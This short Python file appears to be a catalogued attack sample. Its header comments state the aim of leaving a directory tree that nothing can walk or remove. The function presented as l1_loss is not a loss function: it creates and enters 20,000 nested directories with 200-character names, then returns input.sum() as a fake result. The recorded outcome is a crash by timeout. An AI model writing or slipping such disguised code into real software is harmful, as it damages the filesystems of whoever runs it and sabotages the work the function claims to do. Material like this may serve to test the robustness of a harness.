# aim: make what nobody can walk or remove
# sign: a folder is left
# attacks: l1_loss
# outcome: crashed timeout
# says: deep

import os


def l1_loss(input, target, reduction="mean"):
    for _ in range(20_000):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
    return input.sum()
